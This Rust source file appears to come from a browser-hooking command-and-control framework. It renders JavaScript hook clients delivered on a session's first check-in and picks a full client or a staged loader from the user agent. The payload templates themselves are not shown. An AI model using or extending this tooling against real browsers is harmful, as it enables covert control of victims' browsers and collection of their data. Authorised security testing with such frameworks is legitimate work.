//! Rendering of the embedded hook clients delivered on first check-in.

use snare_core::config::HookConfig;
use snare_core::constants;

const HOOK_TEMPLATE: &str = include_str!("templates/hook.js");
const STAGE_TEMPLATE: &str = include_str!("templates/stage.js");

fn render(template: &str, token: &str, hook: &HookConfig) -> String {
    template
        .replace("%TOKEN%", token)
        .replace("%PATH%", &hook.path)
        .replace("%PARAM%", &hook.session_param)
        .replace("%INTERVAL%", &hook.poll_interval_ms.to_string())
}

/// The full single-stage client: environment report, poll loop, optional
/// push transport, result report-back.
pub fn full_bootstrap(token: &str, hook: &HookConfig) -> String {
    render(HOOK_TEMPLATE, token, hook)
}

/// Minimal loader for legacy agents; fetches work by re-polling with the
/// session token.
pub fn staged_bootstrap(token: &str, hook: &HookConfig) -> String {
    render(STAGE_TEMPLATE, token, hook)
}

/// Picks the payload for a new session. Legacy user agents get the staged
/// loader, except when the push transport is enabled, which requires the
/// full client.
pub fn select_bootstrap(token: &str, hook: &HookConfig, user_agent: &str) -> String {
    if !hook.websocket.enable && constants::is_legacy_user_agent(user_agent) {
        staged_bootstrap(token, hook)
    } else {
        full_bootstrap(token, hook)
    }
}
